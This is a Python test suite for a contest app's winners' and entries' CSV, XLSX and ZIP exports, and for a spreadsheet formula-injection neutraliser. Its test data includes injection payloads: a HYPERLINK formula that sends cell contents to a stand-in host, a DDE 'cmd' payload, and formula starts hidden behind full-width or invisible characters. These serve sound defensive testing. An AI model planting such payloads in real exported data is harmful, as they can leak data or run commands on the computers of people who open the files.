"""Winners' exports (CSV, XLSX, streamed ZIP of originals), the entries' record, the CLI export,
and the one CSV writer and formula neutraliser they and the leaderboard share."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from contest.core.extensions import db
from contest.models import AuditLog, Award, Entry, Flag, Score, User, utcnow
from contest.services.exports import CSV_HEADER, WINNERS_HEADER
from contest.services.spreadsheet import csv_bytes, safe_cell, starts_formula
from contest.storage import get_storage

from .test_awards import give_scores, judges  # noqa: F401 - judges is a fixture
from .test_winners import award

EXPORTS = [
    "/admin/export/winners.csv",
    "/admin/export/winners.xlsx",
    "/admin/export/winners.zip",
    "/admin/export/entries.csv",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
HYPERLINK = '=HYPERLINK("http://x?"&A1,"a")'


@pytest.fixture
def winners(app, make_entry, judges) -> dict[str, int]:  # noqa: F811
    """Four winners whose text would run as formulas, a minor among them, and a loser."""
    ids = {
        "grand": make_entry(
            title="@SUM(1)", entrant_name=HYPERLINK, phone="+821012345678", email="a@example.com"
        ),
        "gold": make_entry(title="-1", entrant_name="+82 10-1234-5678", phone="+447911123456"),
        "silver": make_entry(
            title="\t=cmd|' /C calc'!A0",
            entrant_name="김어린",
            under14=True,
            guardian_name="\t=1",
            guardian_phone="+821099998888",
            guardian_consented_at=utcnow(),
        ),
        "video": make_entry(title="영상 대상", kind="video", entrant_name="박영상"),
        "loser": make_entry(title="낙선작", entrant_name="최낙선", email="loser@example.com"),
    }
    for key, mean in (("grand", 9.0), ("gold", 8.0), ("silver", 7.0), ("video", 6.0)):
        give_scores(app, ids[key], judges, mean)
    award(app, ids["grand"], "grand", 1, rank=1)
    award(app, ids["gold"], "gold", 2, rank=2)
    award(app, ids["silver"], "silver", 3, rank=3)
    award(app, ids["video"], "grand", 1, rank=1)
    return ids


def receipt(app, entry_id: int) -> str:
    with app.app_context():
        return db.session.get(Entry, entry_id).receipt_display


def original_bytes(app, entry_id: int) -> bytes:
    with app.app_context():
        entry = db.session.get(Entry, entry_id)
        with get_storage().open(entry.asset("original").key) as f:
            return f.read()


def parse(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM Korean Excel needs
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def export_audits(app) -> list[AuditLog]:
    with app.app_context():
        rows = db.session.scalars(
            select(AuditLog).where(AuditLog.action.like("export-%")).order_by(AuditLog.id)
        ).all()
        db.session.expunge_all()
        return rows


# --- CSV -----------------------------------------------------------------------------------


def test_winners_csv_is_quoted_neutralised_and_for_korean_excel(app, client, admin, winners):
    response = client.get("/admin/export/winners.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="winners.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    body = response.get_data()
    text = body.decode("utf-8-sig")
    field = r'"(?:[^"]|"")*"'
    lines = text.split("\r\n")
    assert lines[-1] == ""
    assert all(re.fullmatch(f"{field}(?:,{field})*", line) for line in lines[:-1])  # all quoted

    header, *rows = parse(body)
    assert tuple(header) == WINNERS_HEADER
    assert len(rows) == 4  # one per award; the loser is not in it
    assert all(len(row) == len(header) for row in rows)
    by_receipt = {row[4]: dict(zip(header, row, strict=True)) for row in rows}

    grand = by_receipt[receipt(app, winners["grand"])]
    assert grand["상"] == "대상" and grand["부문"] == "사진"
    assert grand["부문 내 순서"] == "1" and grand["심사 순위"] == "1"
    assert grand["이름"] == "'" + HYPERLINK
    assert grand["제목"] == "'@SUM(1)"
    assert grand["이메일"] == "a@example.com"
    assert grand["전화번호"] == "010-1234-5678"  # Korean numbers written nationally: no +
    assert grand["보호자 이름"] == "" and grand["보호자 전화번호"] == ""
    assert grand["가중 평균"] == "9.00" and grand["심사 수"] == "3"

    gold = by_receipt[receipt(app, winners["gold"])]
    assert gold["이름"] == "'+82 10-1234-5678"
    assert gold["제목"] == "'-1"
    assert gold["전화번호"] == "'+44 7911 123456"  # a foreign number keeps its +, quoted

    silver = by_receipt[receipt(app, winners["silver"])]
    assert silver["제목"] == "'\t=cmd|' /C calc'!A0"
    assert silver["보호자 이름"] == "'\t=1"
    assert silver["보호자 전화번호"] == "010-9999-8888"

    assert by_receipt[receipt(app, winners["video"])]["부문"] == "영상"
    for row in rows:
        assert not any(starts_formula(cell) for cell in row)
    assert "최낙선" not in text and "loser@example.com" not in text


def test_every_export_is_audited_with_who_what_and_how_many(app, client, admin, winners):
    for path in EXPORTS:
        assert client.get(path).status_code == 200
    rows = export_audits(app)
    seen = [(r.action, r.new["format"]) for r in rows]
    assert seen[:4] == [
        ("export-winners", "csv"),
        ("export-winners", "xlsx"),
        ("export-winners", "zip"),
        ("export-entries", "csv"),
    ]
    assert all(r.user_id == admin and r.new["by"] == "organiser-lee" for r in rows)
    assert [r.new["rows"] for r in rows[:4]] == [4, 4, 4, 5]
    assert all(r.at is not None for r in rows)


# --- XLSX ----------------------------------------------------------------------------------


def test_winners_xlsx_has_the_same_rows_and_no_formula(app, client, admin, winners):
    csv_rows = parse(client.get("/admin/export/winners.csv").get_data())
    response = client.get("/admin/export/winners.xlsx")
    assert response.headers["Content-Disposition"] == 'attachment; filename="winners.xlsx"'
    assert response.headers["Cache-Control"] == "no-store"
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    xlsx_rows = []
    for line in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in line)
        xlsx_rows.append(
            [
                ""
                if c.value is None
                else f"{c.value:.2f}"
                if c.number_format == "0.00"  # means: shown with two decimals
                else str(c.value)
                for c in line
            ]
        )
    assert xlsx_rows == csv_rows
    values = [c.value for line in sheet.iter_rows() for c in line if isinstance(c.value, str)]
    assert not any(v.startswith("=") for v in values)


def test_winners_files_say_who_agreed_to_publication(app, client, admin, winners):
    with app.app_context():
        db.session.get(Entry, winners["gold"]).consent_publish = True
        db.session.commit()
    header, *rows = parse(client.get("/admin/export/winners.csv").get_data())
    assert header[-1] == "공개 동의"
    consent = {row[4]: row[-1] for row in rows}
    assert consent == {
        receipt(app, winners[key]): "예" if key == "gold" else "아니오"
        for key in ("grand", "gold", "silver", "video")
    }
    sheet = load_workbook(io.BytesIO(client.get("/admin/export/winners.xlsx").get_data())).active
    assert sheet.cell(1, len(header)).value == "공개 동의"
    assert {
        sheet.cell(r, 5).value: sheet.cell(r, len(header)).value for r in range(2, 6)
    } == consent


def test_winners_xlsx_freezes_its_header_filters_and_sizes_every_column(client, admin, winners):
    sheet = load_workbook(io.BytesIO(client.get("/admin/export/winners.xlsx").get_data())).active
    assert sheet.freeze_panes == "A2"  # the header row stays in view
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(WINNERS_HEADER)).column_letter}5"
    widths = {cell.value: sheet.column_dimensions[cell.column_letter].width for cell in sheet[1]}
    assert set(widths) == set(WINNERS_HEADER)
    assert all(width >= 8 for width in widths.values())
    # A receipt code (15 characters) and an e-mail address are read whole.
    assert widths["접수번호"] >= 16 and widths["이메일"] >= 24 and widths["제목"] >= 24
    assert all(cell.font.bold for cell in sheet[1])


# --- ZIP -----------------------------------------------------------------------------------


def test_winners_zip_streams_the_untouched_originals_and_the_csv(app, client, admin, winners):
    csv_body = client.get("/admin/export/winners.csv").get_data()
    response = client.get("/admin/export/winners.zip")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == "application/zip"
    assert response.headers["Content-Disposition"] == 'attachment; filename="winners.zip"'
    assert response.headers["Cache-Control"] == "no-store"
    assert "Content-Length" not in response.headers
    chunks = list(response.response)
    assert len(chunks) > 4  # sent file by file as it is made, not as one built body
    with zipfile.ZipFile(io.BytesIO(b"".join(chunks))) as archive:
        assert archive.testzip() is None
        expected = {
            f"대상_사진_{receipt(app, winners['grand'])}.jpg": winners["grand"],
            f"최우수상_사진_{receipt(app, winners['gold'])}.jpg": winners["gold"],
            f"우수상_사진_{receipt(app, winners['silver'])}.jpg": winners["silver"],
            f"대상_영상_{receipt(app, winners['video'])}.jpg": winners["video"],
        }
        assert sorted(archive.namelist()) == sorted([*expected, "winners.csv"])
        for name, entry_id in expected.items():
            assert archive.read(name) == original_bytes(app, entry_id)  # byte-identical
            assert archive.getinfo(name).compress_type == zipfile.ZIP_STORED
        assert archive.read("winners.csv") == csv_body


def test_a_missing_original_is_listed_instead_of_breaking_the_zip(app, client, admin, winners):
    with app.app_context():
        get_storage().delete(db.session.get(Entry, winners["gold"]).asset("original").key)
    with zipfile.ZipFile(io.BytesIO(client.get("/admin/export/winners.zip").get_data())) as z:
        assert len([n for n in z.namelist() if n.endswith(".jpg")]) == 3
        assert receipt(app, winners["gold"]) in z.read("missing-originals.txt").decode()


# --- Entries' record -----------------------------------------------------------------------


def test_entries_csv_lists_every_entry_with_status_flags_and_award(
    app, client, admin, winners, make_entry
):
    rejected = make_entry(title="=제외작", status="rejected", rejected_reason="저작권 침해")
    with app.app_context():
        db.session.add_all(
            [
                Flag(entry_id=winners["loser"], kind="near-duplicate", detail="x"),
                Flag(entry_id=winners["loser"], kind="capture-time", dismissed_at=utcnow()),
            ]
        )
        db.session.commit()
    response = client.get("/admin/export/entries.csv")
    assert response.headers["Content-Disposition"] == 'attachment; filename="entries.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    header, *rows = parse(response.get_data())
    assert header[:4] == ["접수번호", "부문", "제목", "상태"]
    assert len(rows) == 6
    by_receipt = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    loser = by_receipt[receipt(app, winners["loser"])]
    assert loser["상태"] == "접수"
    assert loser["플래그"] == "near-duplicate; capture-time (해제)"
    assert loser["수상"] == ""
    out = by_receipt[receipt(app, rejected)]
    assert out["상태"] == "제외" and out["제외 사유"] == "저작권 침해"
    assert out["제목"] == "'=제외작"
    assert by_receipt[receipt(app, winners["grand"])]["수상"] == "대상"
    text = response.get_data(as_text=True)
    assert "@example.com" not in text and "최낙선" not in text  # no contact data in the record


# --- CLI -----------------------------------------------------------------------------------


def test_the_cli_writes_the_three_files_with_the_same_functions(app, runner, winners, tmp_path):
    out = tmp_path / "export"
    result = runner.invoke(args=["export-winners", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "Wrote 4 winners" in result.output
    header, *rows = parse((out / "winners.csv").read_bytes())
    assert tuple(header) == WINNERS_HEADER and len(rows) == 4
    sheet = load_workbook(out / "winners.xlsx").active
    assert sheet.max_row == 5
    with zipfile.ZipFile(out / "winners.zip") as archive:
        name = f"대상_사진_{receipt(app, winners['grand'])}.jpg"
        assert archive.read(name) == original_bytes(app, winners["grand"])
        assert archive.read("winners.csv") == (out / "winners.csv").read_bytes()
    audits = export_audits(app)
    assert [(a.new["format"], a.new["by"], a.user_id) for a in audits] == [
        ("csv", "cli", None),
        ("xlsx", "cli", None),
        ("zip", "cli", None),
    ]
    assert Path(out).stat().st_mode & 0o077 == 0  # personal data: the owner only


def test_the_winners_export_reads_the_awards_and_never_ranks_every_entry(
    app, client, admin, winners, monkeypatch
):
    from contest.services import ranking

    def refuse(*args, **kwargs):
        raise AssertionError("the winners' export ranked every entry")

    monkeypatch.setattr(ranking, "leaderboard", refuse)
    monkeypatch.setattr(ranking, "_ranking", refuse)
    with app.app_context():  # the rank is the one recorded on the award
        db.session.execute(update(Award).where(Award.entry_id == winners["gold"]).values(rank=5))
        db.session.commit()
    header, *rows = parse(client.get("/admin/export/winners.csv").get_data())
    by_receipt = {row[4]: dict(zip(header, row, strict=True)) for row in rows}
    gold = by_receipt[receipt(app, winners["gold"])]
    assert gold["심사 순위"] == "5" and gold["가중 평균"] == "8.00" and gold["심사 수"] == "3"


# --- The neutraliser and the writer ----------------------------------------------------------

# Text an entrant could send that a spreadsheet might run as a formula: every ASCII start, their
# full-width forms (a Korean IME types them), and a start behind an invisible character.
ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u200b=1+1",
    "\ufeff=1+1",
]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_gets_a_quote(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize(
    ("wide", "ascii"),
    [("＝", "="), ("＋", "+"), ("－", "-"), ("＠", "@"), ("﹦", "="), ("﹢", "+"), ("﹣", "-")],
)
def test_full_width_and_small_forms_count_as_what_they_fold_to(wide, ascii):
    # NFKC decides; the cell keeps what the entrant typed, behind the quote.
    assert safe_cell(f"{wide}HYPERLINK(1)") == f"'{wide}HYPERLINK(1)"
    assert safe_cell(f"{ascii}HYPERLINK(1)") == f"'{ascii}HYPERLINK(1)"


@pytest.mark.parametrize("invisible", ["\u200b", "\ufeff", "\u200c", "\u200d", "\u2060", "\u00ad"])
def test_a_start_behind_invisible_characters_is_seen(invisible):
    assert safe_cell(f"{invisible}=1+1") == f"'{invisible}=1+1"
    assert safe_cell(f"{invisible}{invisible}＝1") == f"'{invisible}{invisible}＝1"
    assert safe_cell(f"{invisible}\t1") == f"'{invisible}\t1"
    assert safe_cell(f"{invisible}사진") == f"{invisible}사진"  # invisible, but harmless


@pytest.mark.parametrize("blank", [" ", "   ", "\u00a0", "\u3000", "\x0b", "\x00"])
def test_a_start_behind_blanks_or_control_characters_is_seen(blank):
    assert safe_cell(f"{blank}=1+1") == f"'{blank}=1+1"
    assert safe_cell(f"{blank}+82 10") == f"'{blank}+82 10"
    assert safe_cell(f"{blank}사진") == f"{blank}사진"


def test_a_start_hidden_by_normalising_is_seen_too():
    # = followed by a combining long solidus composes to ≠ under NFKC; the raw text starts with =.
    assert safe_cell("=\u0338SUM(1)") == "'=\u0338SUM(1)"
    # And folding can make a start: ⁼ (superscript) is = under NFKC.
    assert safe_cell("⁼1") == "'⁼1"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "   ",
        "\u200b",
        "김철수",
        "a=b",
        "1+1",
        "010-1234-5678",
        "ABCD-EFGH-JKLMN",
        "사진 @ 코엑스",
    ],
)
def test_ordinary_text_is_left_alone(text):
    assert safe_cell(text) == text and not starts_formula(text)


@pytest.mark.parametrize("attack", ATTACKS)
def test_neutralising_is_idempotent(attack):
    once = safe_cell(attack)
    assert once == "'" + attack and safe_cell(once) == once


def test_csv_bytes_is_for_korean_excel_and_neutralises_text_only():
    body = csv_bytes(
        ("제목", "점수", "순위", "비고"), [("=1+1", -0.42, 3, None), ("-0.42", 7.0, 1, "")]
    )
    assert body.startswith(b"\xef\xbb\xbf")
    assert body.decode("utf-8-sig") == (
        '"제목","점수","순위","비고"\r\n'
        '"\'=1+1","-0.42","3",""\r\n'
        '"\'-0.42","7.00","1",""\r\n'  # text is text; our own numbers stay numbers
    )


# --- Every export, end to end ---------------------------------------------------------------


@pytest.fixture
def attacks(app, make_entry, judges) -> dict[str, str]:  # noqa: F811
    """Receipt → attack: one scored and awarded entry per attack, in its title and name."""
    by_receipt = {}
    for position, attack in enumerate(ATTACKS, 1):
        entry_id = make_entry(title=attack, entrant_name=attack)
        give_scores(app, entry_id, judges, 9.0 - position / 10)
        award(app, entry_id, "grand", position, rank=position)
        by_receipt[receipt(app, entry_id)] = attack
    return by_receipt


def test_the_winners_csv_neutralises_every_attack(client, admin, attacks):
    header, *rows = parse(client.get("/admin/export/winners.csv").get_data())
    cells = {row[4]: dict(zip(header, row, strict=True)) for row in rows}
    assert set(cells) == set(attacks)
    for code, attack in attacks.items():
        assert cells[code]["제목"] == "'" + attack
        assert cells[code]["이름"] == "'" + attack
    assert not any(starts_formula(cell) for row in rows for cell in row)


def test_the_winners_xlsx_neutralises_every_attack(client, admin, attacks):
    sheet = load_workbook(io.BytesIO(client.get("/admin/export/winners.xlsx").get_data())).active
    header, *rows = list(sheet.iter_rows())
    titles = {row[4].value: row[5] for row in rows}
    assert set(titles) == set(attacks)
    for code, attack in attacks.items():
        # XML reads a stored CR back as LF: what matters is the quote in front and no formula.
        assert titles[code].value == "'" + attack.replace("\r", "\n")
        assert titles[code].data_type == "s"


def test_the_entries_csv_neutralises_every_attack(client, admin, attacks):
    header, *rows = parse(client.get("/admin/export/entries.csv").get_data())
    titles = {row[0]: row[2] for row in rows}
    assert titles == {code: "'" + attack for code, attack in attacks.items()}
    assert not any(starts_formula(cell) for row in rows for cell in row)


def test_the_leaderboard_csv_neutralises_every_attack(client, admin, attacks):
    response = client.get("/admin/export/leaderboard.csv")
    assert response.status_code == 200
    header, *rows = parse(response.get_data())
    assert tuple(header) == CSV_HEADER
    titles = {row[3]: row[2] for row in rows}
    assert titles == {code: "'" + attack for code, attack in attacks.items()}
    assert [row[5] for row in rows][:2] == ["8.90", "8.80"]
    text_columns = (0, 2, 3, 9, 10)  # the others are our own numbers, a -1.23 left as a number
    assert not any(starts_formula(row[i]) for row in rows for i in text_columns)


def test_the_cli_leaderboard_csv_neutralises_every_attack(runner, attacks, tmp_path):
    out = tmp_path / "leaderboard.csv"
    result = runner.invoke(args=["leaderboard", "--csv", str(out)])
    assert result.exit_code == 0, result.output
    header, *rows = parse(out.read_bytes())
    assert {row[3]: row[2] for row in rows} == {c: "'" + a for c, a in attacks.items()}


def test_the_leaderboard_csv_has_the_judges_comments_neutralised(app, client, admin, attacks):
    code, attack = next(iter(attacks.items()))
    with app.app_context():
        entry = db.session.scalar(select(Entry).where(Entry.receipt == code.replace("-", "")))
        scores = db.session.scalars(
            select(Score).where(Score.entry_id == entry.id).order_by(Score.judge_id)
        ).all()
        first, second = (db.session.get(User, s.judge_id) for s in scores[:2])
        first.display_name = "가 심사위원"
        second.display_name = HYPERLINK  # a name too can be typed to look like a formula
        scores[0].comment = "구도가 좋습니다.\n=1+1 은 글자일 뿐"
        scores[1].comment = attack
        scores[2].comment = "   "  # nothing to say: left out
        db.session.commit()
    header, *rows = parse(client.get("/admin/export/leaderboard.csv").get_data())
    assert header[-1] == "심사평"
    by_code = {row[3]: row for row in rows}
    assert by_code[code][-1] == (
        f"'{HYPERLINK}: {attack}\n가 심사위원: 구도가 좋습니다.\n=1+1 은 글자일 뿐"
    )
    assert all(row[-1] == "" for c, row in by_code.items() if c != code)
    assert not any(starts_formula(row[-1]) for row in rows)
    # The CLI's export has the same column.
    out = Path(app.instance_path) / "board.csv"
    assert app.test_cli_runner().invoke(args=["leaderboard", "--csv", str(out)]).exit_code == 0
    assert {r[3]: r[-1] for r in parse(out.read_bytes())[1:]}[code] == by_code[code][-1]
